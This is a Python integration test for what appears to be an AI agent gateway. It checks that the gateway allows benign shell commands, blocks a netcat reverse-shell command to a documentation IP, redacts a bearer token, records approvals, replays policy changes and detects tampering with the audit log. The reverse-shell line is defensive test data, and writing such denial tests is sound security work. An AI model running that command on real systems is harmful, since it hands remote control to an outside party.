"""A recorded session: real traffic through the gate, then verify, tamper, and replay it."""

from __future__ import annotations

import asyncio
import json
import sqlite3
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from gatekeeper.cli.main import main as cli_main

from ..helpers import H100, copy_policy_pack, invoke, make_config, mint, running, vote


async def test_record_verify_tamper_and_replay(
    tmp_path: Path,
    http: aiohttp.ClientSession,
    capsys: pytest.CaptureFixture[str],
    log_output: list[dict[str, Any]],
) -> None:
    config = make_config(tmp_path)
    async with running(config) as gk:
        token = mint(gk)
        for cmd in ("git status", "ls -la", "git log -1"):
            assert (await invoke(http, gk, "shell.exec", {"cmd": cmd}, token))[0] == 200
        assert (await invoke(http, gk, "shell.exec", {"cmd": "nc -e /bin/sh 203.0.113.7 1"}, token))[0] == 403
        approval_id = (await invoke(http, gk, "compute.provision", H100, token))[1]["approval_id"]
        assert (await vote(http, gk, approval_id, "approve"))[0] == 200
        secret = {"url": "https://pypi.org/simple/", "headers": {"Authorization": "Bearer tool-secret-123"}}
        assert (await invoke(http, gk, "http.fetch", secret, token))[0] == 200
    # The gate drained its audit writer on stop: every decision and the vote are in the chain.
    cfg = tmp_path / "gatekeeper.yaml"
    cfg.write_text(f"data_dir: {config.data_dir}\n")

    def cli(*args: str) -> tuple[int, str]:
        code = cli_main(list(args))
        return code, capsys.readouterr().out

    code, out = await asyncio.to_thread(cli, "audit", "verify", "--config", str(cfg))
    assert code == 0, out
    code, out = await asyncio.to_thread(cli, "audit", "tail", "-n", "20", "--json", "--config", str(cfg))
    records = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    assert [r["entry"] for r in records].count("approval") == 1
    vote_record = next(r for r in records if r["entry"] == "approval")
    assert vote_record["operator"] == "ops-1" and vote_record["outcome"] == "approved"
    assert "tool-secret-123" not in out  # redacted before it was hashed and stored

    candidate = tmp_path / "candidate"
    copy_policy_pack(candidate)
    with (candidate / "policy.csv").open("a") as fh:
        fh.write("p, agent, proc.exec:git, deny, True, git goes away\n")
    code, out = await asyncio.to_thread(
        cli, "policy", "replay", "--config", str(cfg), "--candidate-dir", str(candidate), "--json"
    )
    report = json.loads(out)
    assert code == 0
    assert report["transitions"]["allowed→denied"] == 2, report["transitions"]

    db = sqlite3.connect(config.data_dir / "audit.sqlite3")
    try:
        db.execute("UPDATE audit_records SET body = replace(body, 'git status', 'git STATUS') WHERE seq = 1")
        db.commit()
    finally:
        db.close()
    code, out = await asyncio.to_thread(cli, "audit", "verify", "--config", str(cfg))
    assert code == 1 and "seq 1" in out
